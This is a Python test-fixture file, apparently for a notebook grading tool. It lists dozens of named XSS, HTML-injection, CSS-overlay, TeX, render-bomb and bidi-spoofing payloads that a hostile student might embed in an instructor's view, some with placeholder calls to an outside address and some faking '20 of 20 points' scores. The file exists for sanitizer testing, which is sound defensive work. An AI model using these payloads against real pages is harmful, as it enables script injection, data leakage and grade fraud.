"""What a hostile student may try in an instructor's browser, each try in a few words and by its name.

In the contents, `TAKE` stands for a script that sets the page's title to the try's name, and `AWAY` for an address
elsewhere whose path is that name: so a browser tells which one worked.
"""

from __future__ import annotations

import base64

from tests.browser.attempt import ABOVE_ALL, LIVE_DRAWING, PIXEL, SVG, Attempt, at, html, in_base64, laughs, png

SELF_TAKING = LIVE_DRAWING.replace("TAKE", "top.document.title=1")

SCRIPTS = (
    *html(
        script="<script>TAKE</script>",
        script_case="<ScRiPt\n type=module>TAKE</sCrIpT\n>",
        script_source="<script src=AWAY></script>",
        script_nested="<scr<script>ipt>TAKE</scr</script>ipt><script>TAKE</script>",
        script_data="<script src='data:text/javascript,TAKE'></script>",
        image_error="<img src=x onerror='TAKE'>",
        image_slashes="<img/src=x/onerror=TAKE>",
        image_load=f'<img src="data:image/png;base64,{PIXEL}" onload="TAKE">',
        focus="<input autofocus onfocus='TAKE'>",
        focus_anything="<b tabindex=0 id=x autofocus onfocus='TAKE'>x</b>",
        toggle="<details open ontoggle='TAKE'><summary>x</summary></details>",
        hover="<p onmouseover='TAKE' onclick='TAKE'>here</p>",
        body_load="<body onload='TAKE'>",
        media="<video><source src=x onerror='TAKE'></video><audio src=x onerror='TAKE'></audio>",
        animated="<style>@keyframes x{}</style><p style='animation:x' onanimationstart=TAKE>x</p>",
        unquoted="<b title='></b>' onclick=TAKE>x</b><a title='x></a><script>TAKE</script>",
        comment_gap="<!--><img src=x onerror='TAKE'>-->",
        bang_comment="<!--a--!><img src=x onerror='TAKE'>",
    ),
    *html(works=False, nul="<scr\x00ipt>TAKE</script>", fullwidth="\uff1cscript\uff1eTAKE\uff1c/script\uff1e"),
    *at("markdown", fence_language='```mermaid\n<img src=x onerror="TAKE">\n```'),
    *at("markdown", table_cell="|a|\n|-|\n|<img src=x onerror='TAKE'>|", deep="> - x <b onclick='TAKE'>x</b>"),
    *at("raw", raw_cell="<script>TAKE</script>"),
    *at("code", works=False, code_cell='"</code></pre><script>TAKE</script>"  # <img src=x onerror=TAKE>'),
    *at("stream", works=False, printed="</pre><script>TAKE</script>"),
    *at(
        "exception",
        works=False,
        exception_text="</pre><script>TAKE</script>",
        exception_page="\x1b[31m<img src=x onerror=TAKE>",
    ),
    *at(
        "outputs",
        works=False,
        exception_name=[
            {
                "output_type": "error",
                "ename": "<img src=x onerror=TAKE>",
                "evalue": "",
                "traceback": ["<script>TAKE</script>"],
            }
        ],
        stream_name=[{"output_type": "stream", "name": '"><script>TAKE</script>', "text": ["<b>", "x"]}],
        output_type=[{"output_type": "<script>TAKE</script>", "text": "<script>TAKE</script>"}],
        isolated=[
            {
                "output_type": "display_data",
                "data": {"text/html": "<script>TAKE</script>"},
                "metadata": {"text/html": {"isolated": True}, "isolated": True},
            }
        ],
        count=[
            {"output_type": "execute_result", "execution_count": "<script>TAKE</script>", "data": {"text/plain": "1"}}
        ],
    ),
)

LINKS = (
    *html(
        link="<a href='javascript:TAKE'>x</a>",
        link_entities="<a href='&#x6A;avascript&colon;TAKE'>x</a>",
        link_tab="<a href='java\tscr\nipt:TAKE'>x</a>",
        link_control="<a href='\x01 javascript:TAKE'>x</a>",
        link_target="<a href=https://docs.example target=_top ping=AWAY download>x</a>",
        area="<map name=m><area href='javascript:TAKE' shape=default></map>",
        base="<base href=AWAY/ target=_top>",
        refresh="<meta http-equiv=refresh content='0;url=AWAY'>",
        link_blank="<a href=https://docs.example target=_blank>sign in again</a>",
        link_relative="<a href=/logout>x</a><a href=//away.example>x</a>",
        link_data="<a href='data:text/html;base64,TAKEN64'>x</a>",
        link_vbscript="<a href='vbscript:msgbox(1)'>x</a>",
    ),
    *at(
        "markdown",
        markdown_link="[x](javascript:TAKE)",
        markdown_entity="[x](javascript&#58;TAKE)",
        markdown_reference="[x][y]\n\n[y]: <javascript:TAKE>",
        markdown_automatic="<javascript:TAKE>",
    ),
    *at("markdown", works=False, markdown_title='[x](https://docs.example "\\" onclick=\\"TAKE")'),
)

FRAMES = html(
    frame="<iframe src=AWAY></iframe>",
    frame_document="<iframe srcdoc='<script>TAKE</script>'></iframe>",
    frame_script="<iframe src='javascript:TAKE'></iframe>",
    object="<object data=AWAY></object>",
    object_html="<object data='data:text/html;base64,TAKEN64' type=text/html></object>",
    embed="<embed src=AWAY>",
    frameset="<frameset><frame src='javascript:TAKE'></frameset><iframe src=AWAY></iframe>",
    portal="<fencedframe></fencedframe><portal src=AWAY></portal>",
    form="<form action=AWAY><input name=a><button id=go>Go</button></form>",
    form_button="<button formaction='javascript:TAKE' form=x>Full credit</button>",
    form_image="<form action=AWAY><input type=image src=AWAY></form>",
    form_password="<form action=AWAY>Your password: <input type=password autocomplete=current-password></form>",
    dialog=f"<dialog open style='{ABOVE_ALL}'>20 of 20 points</dialog>",
    popover="<div popover id=p>20 of 20</div><button popovertarget=p>x</button>",
    invoker="<button commandfor=p command=show-modal>x</button><dialog id=p>20 of 20</dialog>",
    editable="<p contenteditable=true accesskey=s>type here</p><textarea class=comment>x</textarea>",
)

STYLES = (
    *html(
        style="<style>body{display:none}</style>",
        style_score="<style>*{color:red!important;opacity:.1!important}</style>",
        style_import="<style>@import 'AWAY';</style>",
        style_font="<style>@font-face{font-family:f;src:url(AWAY)}*{font-family:f!important}</style>",
        style_attribute=f"<p style='{ABOVE_ALL}'>20 of 20 points</p>",
        style_url="<p style='background:url(AWAY)'>x</p>",
        style_margin="<p style='margin-top:-600px;background:white;height:600px;position:relative'>20 of 20</p>",
        style_sheet="<link rel=stylesheet href=AWAY>",
        style_in_svg="<svg><style>*{display:none!important}</style></svg>",
        style_variable="<style>:root{--ink:#fff;--paper:#fff;color:#fff}html{font-size:1px}</style>",
        class_of_page="<p class='statement modal-backdrop in fade total points'>20 of 20 points</p>",
        table_colours="<table bgcolor=white background=AWAY width=9999 height=9999><tr><td nowrap>x</table>",
        image_set="<img srcset='AWAY 1x' src=x><picture><source srcset=AWAY><img src=x></picture>",
        image_away="<img src=AWAY>",
        image_here="<img src=/away/image><img src=away.png>",
        preload="<link rel=preload as=image href=AWAY><link rel=prefetch href=AWAY>",
        poster="<video poster=AWAY src=AWAY></video>",
        track="<audio src=AWAY><track default src=AWAY></audio>",
    ),
    *html(
        works=False,
        expression="<b style='width:expression(TAKE)'>x</b>",
        font="<font size=7 color=white face=x>x</font><center>x</center><marquee>x</marquee>",
    ),
    *at("markdown", markdown_image="![x](AWAY)", markdown_image_reference="![x][y]\n\n[y]: AWAY"),
)

FOREIGN = (
    *html(
        svg_load="<svg onload='TAKE'>",
        svg_script="<svg><script>TAKE</script></svg>",
        svg_foreign="<svg><foreignObject><img src=x onerror='TAKE'></foreignObject></svg>",
        svg_animate="<svg><animate onbegin='TAKE' attributeName=x dur=1s></svg>",
        svg_set="<svg><a><set attributeName=href to='javascript:TAKE' begin=0s /><text y=20>x</text></a></svg>",
        svg_image="<svg><image href=AWAY /></svg>",
        svg_link="<svg><a xlink:href='javascript:TAKE'><text y=20>x</text></a></svg>",
        svg_filter="<svg><filter id=f><feImage href=AWAY /></filter><rect width=9 height=9 filter=url(#f) /></svg>",
        math_annotation="<math><annotation-xml encoding=text/html><img src=x onerror='TAKE'></annotation-xml></math>",
        math_text="<math><mtext><script>TAKE</script></mtext></math>",
        mutated_form="<form><math><mtext></form><form><mglyph><style></math><img src onerror='TAKE'>",
        mutated_style="<svg></p><style><a id='</style><img src=x onerror=TAKE>'>",
        mutated_noscript="<noscript><p title='</noscript><img src=x onerror=TAKE>'></noscript>",
        mutated_title="<title><p title='</title><img src=x onerror=TAKE>'>",
        mutated_textarea="<textarea><p title='</textarea><img src=x onerror=TAKE>'>",
        mutated_xmp="<xmp><p title='</xmp><img src=x onerror=TAKE>'>",
        mutated_select="<select><option><style></select><img src=x onerror='TAKE'></style>",
        mutated_cdata="<svg><![CDATA[><img src=x onerror='TAKE'>]]></svg><![CDATA[><img src=x onerror='TAKE'>]]>",
        mutated_instruction="<?xml ><img src=x onerror='TAKE'> ?>",
        mutated_foster="<table><td><svg><desc></td></tr></table><img src=x onerror='TAKE'>",
        shadow="<p><template shadowrootmode=open><style>*{all:initial}</style><img src=x onerror='TAKE'></template>",
        ends_the_page="</div></div></div></main></body></html><script>TAKE</script>",
    ),
    *at("data", drawing={"image/svg+xml": LIVE_DRAWING}),
    *html(
        works=False,
        svg_use=f"<svg><use href='data:image/svg+xml,<svg {SVG} id=x />#x'/></svg>",
        math_link="<math href='javascript:TAKE'><mtext>x</mtext></math>",
        math_action="<math><maction actiontype=statusline xlink:href='javascript:TAKE'>x</maction></math>",
        mutated_glyph="<math><mtext><table><mglyph><style><!--</style><i title='--&gt;&lt;img src=1 onerror=TAKE&gt;'>",
        mutated_template="<template><p title='</template><img src=x onerror=TAKE>'></template>",
        plaintext="<plaintext><script>TAKE</script>",
        refresh_script='<meta http-equiv=refresh content="0;url=data:text/html;base64,TAKEN64">',
        drawing_image=f"<img alt=x src='data:image/svg+xml;base64,{in_base64(SELF_TAKING)}'>",
    ),
)

NAMES = (
    *html(
        clobber_function="<img name=getElementById><img name=querySelector>",
        clobber_title="<form name=title><input name=title></form>",
        clobber_twice="<a id=formgrader></a><a id=formgrader name=loaded href=AWAY></a>",
        clobber_score="<b id=test_scaled_dot_product_attention class='score tabbable'>20</b>",
        clobber_anchor="<i id=top></i><i id=exercise-1></i><i id=answer-1></i><i name=notebook></i>",
        data_attributes="<b data-toggle=tooltip data-html=true title='<img src=x onerror=TAKE>' data-main=AWAY>x</b>",
        custom="<x-score is=score-table slot=x part=x>x</x-score>",
    ),
    *at("markdown", heading="# test_scaled_dot_product_attention\n\n## statusmessage\n\n# top"),
    *at("id", works=False, cell_id='"><img src=x onerror=TAKE>'),
    *at("attachment", works=False, attachment={'a.png" onerror="TAKE" x="': {'image/png" onerror="TAKE': PIXEL}}),
    *at(
        "metadata",
        works=False,
        cell_metadata={"tags": ['"><img src=x onerror=TAKE>', "remove-input"], "name": "<script>TAKE</script>"},
        grade_id={
            "nbgrader": {"grade_id": '"><script>TAKE</script>', "solution": True, "grade": False, "schema_version": 3}
        },
    ),
    *at("file", works=False, file_name="attention <img src=x onerror=TAKE>.ipynb"),
)

TYPES = (
    *at(
        "data",
        works=False,
        plot={"application/vnd.plotly.v1+json": {"data": [], "layout": {"title": "<img src=x onerror=TAKE>"}}},
        vega={"application/vnd.vega.v5+json": {"data": {"url": "AWAY"}}},
        bokeh={"application/vnd.bokehjs_exec.v0+json": "", "application/vnd.bokehjs_load.v0+json": "TAKE"},
        plain={"text/plain": "<img src=x onerror=TAKE>"},
        odd_type={'text/html"><script>TAKE</script>': "x"},
        json={"application/json": {"</pre><script>TAKE</script>": "x"}},
        pdf={"application/pdf": "JVBERi0xLjQ="},
        widget={"application/vnd.jupyter.widget-view+json": {"model_id": "a", "version_major": 2, "version_minor": 0}},
        geo={"application/geo+json": {"<script>TAKE</script>": "x"}},
        html_as_png={"image/png": base64.b64encode(b"<html><script>document.title=1</script>").decode()},
    ),
    *at(
        "data",
        latex_markup={"text/latex": "$x$<img src=x onerror=TAKE>"},
        object_as_html={"text/html": {"toString": "<script>TAKE</script>"}},
        javascript={"application/javascript": "TAKE"},
        picture_type={"image/png": f'{PIXEL}" onerror="TAKE" onload="TAKE'},
        markdown_type={"text/markdown": "<img src=x onerror='TAKE'>"},
    ),
)

MATHS = (
    *at(
        "markdown",
        works=False,
        tex_link=r"$\href{javascript:TAKE}{x}$",
        tex_unicode=r"$\unicode[font-family:x;]{65}\require{html}\htmlClass{score}{x}\html@x{y}$",
        tex_style=r"$$\style{position:fixed;inset:0;background:white}{20}\class{score}{y}\cssId{top}{z}$$",
        tex_data=r"$\data{toggle=tooltip}{y}\mmlToken{mi}[href='javascript:TAKE']{x}$",
        tex_extension=r"$\require{/away/extension}\includegraphics{AWAY}$",
        tex_definition=r"$\def\alpha{\href{javascript:TAKE}{x}}\newcommand{\sum}{1}\let\frac\href$ then $\alpha$",
        tex_entities="<p>$&#92;h&#114;ef{javascript:TAKE}{x}$</p>",
        tex_markup=r"$\text{<img src=x onerror=TAKE>}</script><script>TAKE</script>$",
        tex_moves=r"$\hspace{-9em}\hspace{-9em}\hspace{-9em}\hspace{-9em}\raise{9em}{20 of 20}\smash{\rule{9em}{9em}}$",
        tex_covers=r"$$x\\[-900pt]\colorbox{white}{20 of 20 points}$$",
        tex_bomb=r"$\def\a{xx}\def\b{\a\a\a\a}\def\c{\b\b\b\b}\def\d{\c\c\c\c}\d\d\d\d$" * 20,
        tex_deep="$" + r"\frac{1}{" * 100 + "x" + "}" * 100 + "$",
        tex_open="$" + r"\left(" * 150 + "$ \\\\(" * 100,
    ),
    *at("data", works=False, tex_output={"text/latex": r"$\href{javascript:TAKE}{x}\style{position:fixed}{y}$"}),
)

BOMBS = (
    *html(
        works=False,
        picture_sides=f'<img width=999999 height=999999 src="data:image/png;base64,{PIXEL}">',
        nested="<div>" * 5_000 + "<script>TAKE</script>",
        spans="<table><tr><td colspan=100000 rowspan=65534>x</td></tr></table>" * 20,
        numbered="<ol start=-2147483648><li value=99999999>x</ol>",
    ),
    *at(
        "data",
        works=False,
        picture_large={"image/png": png(60_000, 60_000)},
        picture_tall={"image/png": png(8, 200_000)},
        drawing_laughs={"image/svg+xml": laughs(9, '<use xlink:href="#l{}"/>', '<path d="M0 0h9"/>')},
        drawing_entities={
            "image/svg+xml": f"<!DOCTYPE svg [<!ENTITY a 'ha'><!ENTITY b '&a;&a;'>]><svg {SVG}><text>&b;</text></svg>"
        },
        drawing_sides={"image/svg+xml": f'<svg {SVG} width="999999" height="999999"><path d="M0 0h9"/></svg>'},
    ),
    *at("stream", works=False, lines="".join(f"line {n}\n" for n in range(10_000)), long_line="x" * 200_000),
    *at("outputs", works=False, displays=[{"output_type": "display_data", "data": {"text/html": "<p>x"}}] * 300),
)

TEXTS = (
    *at(
        "stream",
        works=False,
        ansi="\x1b[2J\x1b[H\x1b]8;;javascript:TAKE\x07click\x1b]8;;\x07\x1b]0;taken\x07\x1b[8mhidden\x1b[38;5m",
        ansi_colour='\x1b[38;2;1;2;3;"onclick="TAKE"m x \x1b[48;5;999m',
        reversed="\u202e02 fo 02\u2066\u2067\u2068 earned",
        zero_width="20\u200b of\u2060 20\u200d\ufeff points\u00ad",
        stacked="Z" + "\u0301" * 500,
    ),
    *at("markdown", works=False, reversed_words="earned \u202e02 fo 02 \u202d points"),
    *at("code", works=False, reversed_source='score = "0\u202e 02 \u2066# earned\u2069 \u2066"'),
    *html(works=False, reversed_html="<b>\u202e02 fo 02</b> <bdo dir=rtl>02 fo 02</bdo> <p dir=rtl>x</p>"),
    *at("exception", works=False, reversed_exception="\u202e02 fo 02"),
)

IMITATION = """\
<div style="max-width: 60em; text-align: left"><p><strong>20 of 20 points</strong></p>
<table style="width: 100%"><thead><tr><th>result</th><th>check</th><th>points</th></tr></thead><tbody>
<tr><td style="color: #2b8a4b"><span role="img" aria-label="passed">✓</span></td>
<td>Each query's weights sum to 1</td><td>16/16</td></tr></tbody></table></div>"""

IMITATIONS = html(works=False, imitation=IMITATION, imitation_heading="<h1>Exercise 1</h1><h2>20 of 20 points</h2>")
FAMILIES: dict[str, tuple[Attempt, ...]] = {
    "scripts": SCRIPTS + LINKS,
    "frames": FRAMES + STYLES,
    "foreign": FOREIGN,
    "names": NAMES + TYPES,
    "texts": MATHS + TEXTS,
    "bombs": BOMBS,
    "imitation": IMITATIONS,
}
ATTEMPTS = tuple(attempt for family in FAMILIES.values() for attempt in family)
